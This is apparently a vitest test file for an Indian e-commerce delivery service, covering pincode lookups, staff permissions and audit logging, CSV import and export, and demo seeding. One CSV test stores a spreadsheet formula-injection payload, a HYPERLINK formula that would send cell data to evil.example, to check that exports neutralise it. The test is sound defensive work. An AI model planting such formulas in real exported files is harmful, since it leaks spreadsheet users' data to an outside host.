// Delivery by pincode: the shopper's lookup (narrowest range wins, boundaries, unserviceable, malformed,
// dates from today in India), the back office's ranges with their permissions and audit, the CSV round
// trip, a rejected CSV that writes nothing, and the demo seed run twice.
import { beforeAll, describe, expect, it } from 'vitest';
import { envelope } from '../../../contract/catalogue.ts';
import { DeliveryRangeListDataSchema, type DeliveryRangeInput } from '../../../contract/admin/delivery.ts';
import { PincodeAnswerSchema } from '../../../contract/delivery.ts';
import { addDays, indiaToday } from '../../../contract/leads.ts';
import { DEMO_DELIVERY_RANGES, seedDeliveryRanges } from '../../db/seed/delivery.ts';
import { call } from '../../../tests/support/admin-sales.ts';
import { useTestApp } from '../../../tests/support/api.ts';
import { createStaff, customerToken, type TestStaff } from '../../../tests/support/staff.ts';
import { createDeliveryService, pincodeAnswer } from './pincodes.service.ts';

let owner: TestStaff;
let catalogueEditor: TestStaff;
let sales: TestStaff;

const t = useTestApp();
beforeAll(async () => {
  owner = await createStaff(t.database, 'owner');
  catalogueEditor = await createStaff(t.database, 'catalogue');
  sales = await createStaff(t.database, 'sales');
});

const admin = (
  method: 'GET' | 'POST' | 'PUT' | 'DELETE',
  url: string,
  payload?: unknown,
  who: TestStaff = owner,
) => call(t.app, method, `/admin/delivery/pincodes${url}`, who.headers, payload);

const lookup = async (pincode: string) => {
  const answer = await call(t.app, 'GET', `/delivery/pincodes/${pincode}`, {});
  return answer;
};

const range = (overrides: Partial<DeliveryRangeInput> = {}): DeliveryRangeInput => ({
  pincode_from: '800001',
  pincode_to: '800099',
  zone: 'Patna',
  delivery_days_min: 4,
  delivery_days_max: 6,
  installation: 'paid',
  installation_price: 749,
  cod_allowed: true,
  ...overrides,
});

const auditOf = (id: string) =>
  t.database.execute(
    `SELECT action, before, after, actor_email FROM audit_log WHERE entity_id = $1 ORDER BY id`,
    [id],
  );

const countRanges = async () =>
  Number((await t.database.execute(`SELECT count(*)::int AS n FROM delivery_pincodes`))[0]!.n);

describe('the shopper looks up a pincode', () => {
  beforeAll(async () => {
    // A metro range, a narrower area inside it, and a single pincode inside that.
    for (const input of [
      range({
        pincode_from: '820000',
        pincode_to: '829999',
        zone: 'Metro',
        delivery_days_min: 7,
        delivery_days_max: 10,
      }),
      range({
        pincode_from: '821000',
        pincode_to: '821099',
        zone: 'Inner city',
        installation: 'free',
        installation_price: null,
        cod_allowed: false,
        delivery_days_min: 2,
        delivery_days_max: 3,
      }),
      range({
        pincode_from: '821050',
        pincode_to: '821050',
        zone: 'Island',
        installation: 'none',
        installation_price: null,
        delivery_days_min: 12,
        delivery_days_max: 20,
      }),
    ])
      expect((await admin('POST', '', input)).status).toBe(201);
  });

  it('answers with the narrowest range that holds the pincode, with dates from today in India', async () => {
    const before = indiaToday();
    const answer = await lookup('821001');
    const after = indiaToday();
    expect(answer.status).toBe(200);
    const data = envelope(PincodeAnswerSchema).parse(answer.body).data;
    expect(data).toMatchObject({
      pincode: '821001',
      serviceable: true,
      zone: 'Inner city',
      deliveryDays: { min: 2, max: 3 },
      installation: { kind: 'free', price: null },
      cashOnDelivery: false,
    });
    if (!data.serviceable) throw new Error('expected a serviceable answer');
    // The day in India may turn between the two readings; the answer counts from one of them.
    expect([addDays(before, 2), addDays(after, 2)]).toContain(data.estimatedDelivery.from);
    expect([addDays(before, 3), addDays(after, 3)]).toContain(data.estimatedDelivery.to);

    expect((await lookup('821050')).body.data).toMatchObject({
      zone: 'Island',
      installation: { kind: 'none', price: null },
    });
    expect((await lookup('825000')).body.data).toMatchObject({
      zone: 'Metro',
      installation: { kind: 'paid', price: 749 },
      cashOnDelivery: true,
    });
  });

  it('holds both ends of a range and nothing past them', async () => {
    expect((await lookup('820000')).body.data.zone).toBe('Metro');
    expect((await lookup('829999')).body.data.zone).toBe('Metro');
    expect((await lookup('821000')).body.data.zone).toBe('Inner city');
    expect((await lookup('821099')).body.data.zone).toBe('Inner city');
    expect((await lookup('821100')).body.data.zone).toBe('Metro');
    expect((await lookup('819999')).body).toEqual({
      success: true,
      data: { pincode: '819999', serviceable: false },
    });
    expect((await lookup('830000')).body.data).toEqual({ pincode: '830000', serviceable: false });
  });

  it('refuses a malformed pincode with a 400 naming pincode', async () => {
    for (const bad of ['12345', '1234567', '012345', '50000a', 'abcdef']) {
      const answer = await lookup(bad);
      expect(answer.status, bad).toBe(400);
      expect(answer.body.code).toBe('bad_request');
      expect(answer.body.error).toContain('pincode');
      expect(answer.body.details[0].field).toBe('pincode');
    }
  });

  it('counts the days from the day in India, which turns at 18:30 UTC', async () => {
    const delivery = createDeliveryService(t.database, { now: () => new Date('2026-12-09T18:29:59Z') });
    const late = await delivery.lookup('821001');
    expect(late).toMatchObject({ estimatedDelivery: { from: '2026-12-11', to: '2026-12-12' } });
    const found = await delivery.rangeFor('821001');
    expect(pincodeAnswer('821001', found, new Date('2026-12-09T18:30:00Z'))).toMatchObject({
      estimatedDelivery: { from: '2026-12-12', to: '2026-12-13' },
    });
    expect(pincodeAnswer('821001', null, new Date())).toEqual({ pincode: '821001', serviceable: false });
  });
});

describe('staff manage the ranges', () => {
  it('asks for a staff token with the delivery permissions', async () => {
    const anonymous = await call(t.app, 'GET', '/admin/delivery/pincodes', {});
    expect(anonymous.status).toBe(401);
    const customer = await call(t.app, 'GET', '/admin/delivery/pincodes', {
      authorization: `Bearer ${await customerToken(t.database)}`,
    });
    expect(customer.status).toBe(403);
    // Sales may read the ranges but not change them; the catalogue editor may do both.
    expect((await admin('GET', '', undefined, sales)).status).toBe(200);
    const refused = await admin('POST', '', range({ pincode_from: '830001', pincode_to: '830001' }), sales);
    expect(refused.status).toBe(403);
    const made = await admin(
      'POST',
      '',
      range({ pincode_from: '830001', pincode_to: '830001' }),
      catalogueEditor,
    );
    expect(made.status).toBe(201);
    expect((await admin('DELETE', `/${made.body.data.range.id}`, undefined, sales)).status).toBe(403);
    expect((await admin('DELETE', `/${made.body.data.range.id}`, undefined, catalogueEditor)).status).toBe(
      200,
    );
  });

  it('creates, reads, updates and deletes a range, each write in the audit log', async () => {
    const created = await admin('POST', '', range({ pincode_from: '840001', pincode_to: '840050' }));
    expect(created.status).toBe(201);
    const { id } = created.body.data.range;
    expect(created.body.data.range).toMatchObject({
      pincode_from: '840001',
      pincode_to: '840050',
      zone: 'Patna',
      installation: 'paid',
      installation_price: 749,
    });
    expect((await admin('GET', `/${id}`)).body.data.range.id).toBe(id);

    const updated = await admin(
      'PUT',
      `/${id}`,
      range({ pincode_from: '840001', pincode_to: '840060', installation: 'free', installation_price: null }),
    );
    expect(updated.status).toBe(200);
    expect(updated.body.data.range).toMatchObject({
      pincode_to: '840060',
      installation: 'free',
      installation_price: null,
    });
    expect((await lookup('840055')).body.data.installation).toEqual({ kind: 'free', price: null });

    expect((await admin('DELETE', `/${id}`)).status).toBe(200);
    expect((await admin('GET', `/${id}`)).status).toBe(404);
    expect((await lookup('840055')).body.data.serviceable).toBe(false);

    const entries = await auditOf(id);
    expect(entries.map((entry) => entry.action)).toEqual([
      'delivery_range.create',
      'delivery_range.update',
      'delivery_range.delete',
    ]);
    expect(entries[0]!.actor_email).toBe(owner.email);
  });

  it('refuses bad input naming the field, and the same range twice with a 409', async () => {
    const cases: [Partial<DeliveryRangeInput>, string][] = [
      [{ pincode_from: '05000' }, 'pincode_from'],
      [{ pincode_from: '100500', pincode_to: '100600' }, 'pincode_from'],
      [{ pincode_from: '850010', pincode_to: '850001' }, 'pincode_to'],
      [{ delivery_days_min: 0 }, 'delivery_days_min'],
      [{ delivery_days_min: 5, delivery_days_max: 4 }, 'delivery_days_max'],
      [{ delivery_days_max: 61 }, 'delivery_days_max'],
      [{ installation: 'paid', installation_price: null }, 'installation_price'],
      [{ installation: 'free', installation_price: 100 }, 'installation_price'],
      [{ installation_price: 0 }, 'installation_price'],
      [{ zone: ' ' }, 'zone'],
    ];
    for (const [overrides, field] of cases) {
      const answer = await admin(
        'POST',
        '',
        range({ pincode_from: '850001', pincode_to: '850009', ...overrides }),
      );
      expect(answer.status, JSON.stringify(overrides)).toBe(400);
      expect(answer.body.details[0].field, JSON.stringify(overrides)).toBe(field);
    }
    const first = await admin('POST', '', range({ pincode_from: '850001', pincode_to: '850009' }));
    expect(first.status).toBe(201);
    const again = await admin(
      'POST',
      '',
      range({ pincode_from: '850001', pincode_to: '850009', zone: 'Other' }),
    );
    expect(again.status).toBe(409);
    expect(again.body.details[0].field).toBe('pincode_from');
    // Overlapping but not identical is allowed: the narrower one answers inside it.
    expect((await admin('POST', '', range({ pincode_from: '850005', pincode_to: '850009' }))).status).toBe(
      201,
    );
  });

  it('lists ranges holding a pincode or its first digits, and by zone, paged', async () => {
    await admin('POST', '', range({ pincode_from: '860001', pincode_to: '860010', zone: 'Ranchi east' }));
    await admin('POST', '', range({ pincode_from: '860011', pincode_to: '860020', zone: 'Ranchi west' }));
    await admin('POST', '', range({ pincode_from: '861001', pincode_to: '861001', zone: 'Jamshedpur' }));
    const byPincode = DeliveryRangeListDataSchema.parse((await admin('GET', '?pincode=860015')).body.data);
    expect(byPincode.ranges.map((r) => r.zone)).toEqual(['Ranchi west']);
    const byPrefix = DeliveryRangeListDataSchema.parse((await admin('GET', '?pincode=86')).body.data);
    expect(byPrefix.ranges.map((r) => r.zone)).toEqual(['Ranchi east', 'Ranchi west', 'Jamshedpur']);
    const byZone = DeliveryRangeListDataSchema.parse((await admin('GET', '?zone=RANCHI')).body.data);
    expect(byZone.ranges.map((r) => r.zone)).toEqual(['Ranchi east', 'Ranchi west']);
    const paged = DeliveryRangeListDataSchema.parse(
      (await admin('GET', '?pincode=86&limit=2&page=2')).body.data,
    );
    expect(paged.ranges.map((r) => r.zone)).toEqual(['Jamshedpur']);
    expect(paged.pagination).toMatchObject({ total: 3, hasPrev: true, hasNext: false });
    const bad = await admin('GET', '?pincode=86x');
    expect(bad.status).toBe(400);
    expect(bad.body.details[0].field).toBe('pincode');
  });
});

describe('the delivery CSV', () => {
  const post = (body: string, who: TestStaff = owner) =>
    t.app.inject({
      method: 'POST',
      url: '/api/v1/admin/delivery/pincodes/import',
      headers: { ...who.headers, 'content-type': 'text/csv' },
      payload: body,
    });
  const exported = async () => {
    const answer = await t.app.inject({
      method: 'GET',
      url: '/api/v1/admin/delivery/pincodes/export',
      headers: owner.headers,
    });
    expect(answer.statusCode).toBe(200);
    expect(answer.headers['content-type']).toContain('text/csv');
    return answer.body;
  };

  it('reads back what it exports, and an import updates ranges it names and adds the others', async () => {
    const before = await exported();
    expect(before.startsWith('\uFEFFpincode_from,pincode_to,zone,')).toBe(true);
    const roundTrip = await post(before);
    expect(roundTrip.statusCode).toBe(200);
    const n = await countRanges();
    expect(roundTrip.json().data).toEqual({ created: 0, updated: n });
    expect(await exported()).toBe(before);

    const file =
      'pincode_from,pincode_to,zone,delivery_days_min,delivery_days_max,installation,installation_price,cod_allowed\r\n' +
      '870001,870099,Bhopal,5,7,paid,549,yes\r\n' +
      '860001,860010,Ranchi east,3,4,none,,no\r\n';
    const imported = await post(file);
    expect(imported.statusCode).toBe(200);
    expect(imported.json().data).toEqual({ created: 1, updated: 1 });
    expect(await countRanges()).toBe(n + 1);
    expect((await lookup('870050')).body.data).toMatchObject({
      zone: 'Bhopal',
      installation: { kind: 'paid', price: 549 },
      cashOnDelivery: true,
    });
    expect((await lookup('860005')).body.data).toMatchObject({
      deliveryDays: { min: 3, max: 4 },
      installation: { kind: 'none', price: null },
      cashOnDelivery: false,
    });
  });

  it('writes a zone a spreadsheet would run with an apostrophe first, and reads it back exactly', async () => {
    const zone = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const created = await admin('POST', '', range({ pincode_from: '880001', pincode_to: '880009', zone }));
    expect(created.status).toBe(201);
    const before = await exported();
    expect(before).toContain(`880001,880009,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",`);
    expect(before).not.toContain(`,"=HYPERLINK(`);

    const roundTrip = await post(before);
    expect(roundTrip.statusCode).toBe(200);
    expect((await lookup('880005')).body.data).toMatchObject({ zone });
    expect(await exported()).toBe(before);
  });

  it('writes nothing when any row is wrong, and names each row and column', async () => {
    const before = await exported();
    const file =
      'pincode_from,pincode_to,zone,delivery_days_min,delivery_days_max,installation,installation_price,cod_allowed\r\n' +
      '880001,880099,Indore,5,7,paid,549,true\r\n' +
      '880100,880199,Indore west,5,7,paid,,true\r\n' +
      '880200,880100,Indore east,5,x,free,,maybe\r\n' +
      '880001,880099,Indore again,5,7,none,,false\r\n';
    const answer = await post(file);
    expect(answer.statusCode).toBe(422);
    const body = answer.json();
    expect(body.error).toBe(
      'Row 3, column installation_price: installation_price is required when installation is paid',
    );
    expect(body.details).toEqual(
      expect.arrayContaining([
        {
          row: 3,
          column: 'installation_price',
          message: 'installation_price is required when installation is paid',
        },
        { row: 4, column: 'delivery_days_max', message: 'delivery_days_max must be a whole number of days' },
        { row: 4, column: 'cod_allowed', message: 'cod_allowed must be true or false' },
        { row: 5, column: 'pincode_from', message: 'The range 880001-880099 is already on row 2' },
      ]),
    );
    expect(await exported()).toBe(before);
    expect((await lookup('880050')).body.data.serviceable).toBe(false);

    const noColumn = await post('pincode_from,pincode_to,zone\r\n880001,880099,Indore\r\n');
    expect(noColumn.statusCode).toBe(422);
    expect(noColumn.json().details[0]).toMatchObject({ row: 1, column: 'delivery_days_min' });
    expect((await post('x', sales)).statusCode).toBe(403);
  });
});

describe('the demo seed', () => {
  it('adds Hyderabad and the metros once, and leaves what staff changed', async () => {
    const n = await countRanges();
    expect(await seedDeliveryRanges(t.database)).toBe(DEMO_DELIVERY_RANGES.length);
    expect(await countRanges()).toBe(n + DEMO_DELIVERY_RANGES.length);
    expect((await lookup('500032')).body.data).toMatchObject({
      zone: 'Hyderabad',
      deliveryDays: { min: 3, max: 5 },
      installation: { kind: 'free', price: null },
      cashOnDelivery: true,
    });
    const [mumbai] = DeliveryRangeListDataSchema.parse(
      (await admin('GET', '?pincode=400050')).body.data,
    ).ranges;
    await admin('PUT', `/${mumbai!.id}`, { ...mumbai, zone: 'Mumbai city', installation_price: 849 });
    expect(await seedDeliveryRanges(t.database)).toBe(0);
    expect(await countRanges()).toBe(n + DEMO_DELIVERY_RANGES.length);
    expect((await lookup('400050')).body.data).toMatchObject({
      zone: 'Mumbai city',
      installation: { kind: 'paid', price: 849 },
    });
  });
});
